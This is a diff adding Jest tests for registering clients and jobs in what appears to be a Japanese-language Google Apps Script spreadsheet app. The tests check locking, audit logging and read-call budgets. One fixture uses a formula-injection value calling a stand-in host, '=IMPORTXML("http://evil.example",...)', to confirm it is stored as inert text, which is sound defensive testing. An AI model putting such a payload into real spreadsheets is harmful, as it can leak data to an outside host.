@@ -133,6 +133,67 @@ describe('the sidebar API through the bundle', () => {
   });
 });
 
+describe('開拓 through the bundle', () => {
+  test('registers a client and a job for it under the lock, labels in Japanese, audited by IDs and codes, within a call budget', () => {
+    const { run, ss, bundle } = world();
+    expect(bundle.functionNames).toEqual(expect.arrayContaining(['registerClient', 'registerJob']));
+    const client = { name: '=IMPORTXML("http://evil.example","//a")', sector: 'welfare', district: '柏', contact_person: '山田 施設長', phone: '04-7100-0001' };
+    const c1 = bundle.log.measure(() => run('registerClient', client));
+    expect(c1.result).toMatchObject({ ok: true, data: { client: { id: 'C0003' }, developed_on: Utilities_format(new Date()) } });
+    const c2 = bundle.log.measure(() => run('registerClient', { name: 'さくら苑' }));
+    expect(c2.result).toMatchObject({ ok: true, data: { client: { id: 'C0004', name: 'さくら苑' } } });
+    const job = { client_id: 'C0004', title: '食堂の清掃', engagement: 'contract', slots: ['Wed-PM', 'Mon-AM'], headcount: 2 };
+    const j1 = bundle.log.measure(() => run('registerJob', job));
+    expect(j1.result).toMatchObject({ ok: true, data: { job: { id: 'J0003', client_id: 'C0004', slots: ['Mon-AM', 'Wed-PM'], status: 'open' } } });
+    const j2 = bundle.log.measure(() => run('registerJob', { ...job, title: '配膳' }));
+    expect(j2.result).toMatchObject({ ok: true, data: { job: { id: 'J0004' } } });
+    expect(run('registerJob', { ...job, client_id: 'C0404' })).toMatchObject({ ok: false, code: 'not_found', message: '提供先「C0404」が見つかりません。シートを確認してください。' });
+
+    const clients = rows(ss, '業務提供先');
+    // Written as '=IMPORTXML(...): kept as text, shown without the apostrophe, never a formula.
+    expect(clients[2]?.slice(0, 6)).toEqual(['C0003', '=IMPORTXML("http://evil.example","//a")', '福祉施設', '柏', '山田 施設長', '04-7100-0001']);
+    expect(ss.getSheetByName('業務提供先')!.getRange(4, 2).getFormulas()[0]?.[0]).toBe('');
+    const jobs = rows(ss, '仕事');
+    expect(jobs[2]?.slice(0, 8)).toEqual(['J0003', 'C0004', '食堂の清掃', '', '請負', '', '月AM、水PM', 2]);
+    expect(jobs[2]?.[13]).toBe('募集中');
+    const audit = rows(ss, '監査ログ').map((r) => r.slice(1, 6));
+    expect(audit).toEqual([
+      [COORDINATOR, 'register_client', '業務提供先', 'C0003', `sector=welfare developed_on=${Utilities_format(new Date())}`],
+      [COORDINATOR, 'register_client', '業務提供先', 'C0004', `sector= developed_on=${Utilities_format(new Date())}`],
+      [COORDINATOR, 'register_job', '仕事', 'J0003', 'client=C0004 status=open engagement=contract slots=Mon-AM,Wed-PM headcount=2'],
+      [COORDINATOR, 'register_job', '仕事', 'J0004', 'client=C0004 status=open engagement=contract slots=Mon-AM,Wed-PM headcount=2'],
+    ]);
+    expect(JSON.stringify(audit)).not.toMatch(/山田|04-7100|IMPORTXML|食堂/);
+
+    for (const [label, m] of [['registerClient (1st, seeds C)', c1], ['registerClient (later)', c2], ['registerJob (1st, seeds J)', j1], ['registerJob (later)', j2]] as const) {
+      console.log(`${label}: total ${m.calls.total}, round trips ${m.calls.roundTrips}, cells read ${m.calls.cellsRead} ${JSON.stringify(m.calls.byMethod)}`);
+      expect(m.calls.byMethod['Lock.tryLock']).toBe(1);
+      expect(m.calls.byMethod['Range.setValues']).toBe(2); // the row, the audit row
+    }
+    // registerClient, later: 設定 + コーディネータ + 業務提供先's header = 3 getValues. The first
+    // also seeds the counter from 業務提供先's ID column (its header + column A) = 5.
+    expect(c2.calls.byMethod['Range.getValues']).toBe(3);
+    expect(c1.calls.byMethod['Range.getValues']).toBe(5);
+    // registerJob, later: 設定 + コーディネータ + 業務提供先's ID column (header + column A) + 仕事's
+    // header = 5 getValues; the first also seeds J from 仕事's ID column (header + column A) = 7.
+    expect(j2.calls.byMethod['Range.getValues']).toBe(5);
+    expect(j1.calls.byMethod['Range.getValues']).toBe(7);
+    // Of 業務提供先 only the ID column: 4 clients by then + the header of 9 cells, whatever its other columns hold.
+    // Cells read, later job: 設定 (4 rows × 2 = 8) + コーディネータ (5 × 4 = 20) + 業務提供先 header 9 and
+    // column A 4 + 仕事 header 16 = 57.
+    expect(j2.calls.cellsRead).toBe(8 + 20 + 9 + 4 + 16);
+  });
+
+  test('refuses a viewer before the lock, writing nothing', () => {
+    const { run, ss, bundle } = world(VIEWER);
+    const r = bundle.log.measure(() => run('registerJob', { client_id: 'C001', title: '受付' }));
+    expect(r.result).toMatchObject({ ok: false, code: 'read_only' });
+    expect(r.calls.byMethod['Lock.tryLock'] ?? 0).toBe(0);
+    expect(rows(ss, '仕事')).toHaveLength(2);
+    expect(rows(ss, '監査ログ')).toHaveLength(0);
+  });
+});
+
 describe('the member search through the bundle', () => {
   test('answers the picker with matching members, reading only a few columns of 会員, without the lock', () => {
     const { run, bundle } = world();
